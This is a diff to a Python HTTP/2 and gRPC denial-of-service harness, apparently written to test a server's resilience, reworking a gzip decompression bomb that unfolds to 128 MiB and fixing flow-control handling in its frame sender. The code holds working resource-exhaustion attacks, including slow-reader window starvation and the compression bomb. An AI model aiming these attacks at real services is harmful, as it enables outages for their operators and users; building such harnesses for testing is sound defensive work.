@@ -17,6 +17,7 @@ import time
 import zlib
 from collections import Counter
 from contextlib import ExitStack, suppress
+from functools import cache
 from itertools import count
 from pathlib import Path
 from typing import TYPE_CHECKING, Final
@@ -27,6 +28,7 @@ if TYPE_CHECKING:
 PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
 END_STREAM: Final = 1
+INITIAL_WINDOW_SIZE: Final = 4
 END_HEADERS: Final = 4
 CONNECTIONS: Final = 8
 SILENT_STREAMS: Final = 40
@@ -220,7 +222,7 @@ def endless_request(attack: Attack) -> None:
 
 def slow_reader(attack: Attack) -> None:
     """Ask for large answers and leave no room to send them."""
-    request = _message(bytes.fromhex("08e807"))  # page_size = 1000
+    request = _message(bytes.fromhex("08c801"))  # page_size = 200
     no_window = struct.pack(">HI", 4, 0)
     with ExitStack() as stack:
         peers = []
@@ -347,48 +349,57 @@ def malformed_messages(attack: Attack) -> None:
     attack.each(act)
 
 
-def gzip_bomb(attack: Attack) -> None:
-    """Send a few hundred kilobytes that unfold to 256 MiB."""
-    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+@cache
+def _bomb() -> bytes:
+    packer = zlib.compressobj(1, zlib.DEFLATED, 31)
     zeros = bytes(2**20)
-    bomb = b"".join(packer.compress(zeros) for _ in range(256)) + packer.flush()
-    message = b"\1" + struct.pack(">I", len(bomb)) + bomb
+    packed = b"".join(packer.compress(zeros) for _ in range(128)) + packer.flush()
+    return b"\1" + struct.pack(">I", len(packed)) + packed
+
+
+def gzip_bomb(attack: Attack) -> None:
+    """Send a few hundred kilobytes that unfold to 128 MiB, once on each connection."""
 
     def act(peer: Peer) -> None:
-        while attack.goes_on:
-            stream, opened = peer.headers((b"grpc-encoding", b"gzip"))
-            peer.socket.sendall(opened)
-            if not _send_within_windows(peer, stream, message):
-                return
+        stream, opened = peer.headers((b"grpc-encoding", b"gzip"))
+        peer.socket.sendall(opened)
+        if _send_within_windows(peer, stream, _bomb()):
             attack.counts["bombs"] += 1
-            time.sleep(PAUSE_S * 20)
+            # Closing at once would take it back before it is unfolded.
+            time.sleep(PAUSE_S * 100)
 
     attack.each(act)
 
 
 def _send_within_windows(peer: Peer, stream: int, message: bytes) -> bool:
     """Send a message as flow control allows; False when the victim wants no more of it."""
-    # Of the stream, and of the connection.
+    # Of the stream, and of the connection. The victim may move the first with its settings.
     windows = {stream: 65_535, 0: 65_535}
+    initial = 65_535
     buffered = b""
     while message:
         size = min(16_000, len(message), *windows.values())
-        if size:
+        if size > 0:
             flags = END_STREAM if size == len(message) else 0
             peer.socket.sendall(frame(DATA, flags, stream, message[:size]))
             message = message[size:]
             windows = {on: window - size for on, window in windows.items()}
             continue
         buffered += peer.socket.recv(65_536)
-        while len(buffered) >= 9 and len(buffered) >= 9 + (
-            length := int.from_bytes(buffered[:3], "big")
-        ):
-            kind, on = buffered[3], int.from_bytes(buffered[5:9], "big")
+        while len(buffered) >= 9 and len(buffered) >= 9 + int.from_bytes(buffered[:3], "big"):
+            end = 9 + int.from_bytes(buffered[:3], "big")
+            kind, on, payload = buffered[3], int.from_bytes(buffered[5:9], "big"), buffered[9:end]
             if kind == WINDOW and on in windows:
-                windows[on] += int.from_bytes(buffered[9:13], "big")
+                windows[on] += int.from_bytes(payload, "big")
+            if kind == SETTINGS:
+                for start in range(0, len(payload), 6):
+                    name, value = struct.unpack(">HI", payload[start : start + 6])
+                    if name == INITIAL_WINDOW_SIZE:
+                        windows[stream] += value - initial
+                        initial = value
             if on == stream and kind in {RST_STREAM, HEADERS}:
                 return False
-            buffered = buffered[9 + length :]
+            buffered = buffered[end:]
     return True
 
 
@@ -457,6 +468,8 @@ def main() -> None:
     """Attack as the arguments say."""
     name, address, certificates, caller, method, seconds = sys.argv[1:]
     attack = Attack(address, Path(certificates), caller, method)
+    if name == gzip_bomb.__name__:
+        _bomb()
     print("attacking", flush=True)  # noqa: T201 - a line that its parent waits for
     attack.run(name, float(seconds))
     print(json.dumps(attack.counts), flush=True)  # noqa: T201 - a line that its parent waits for
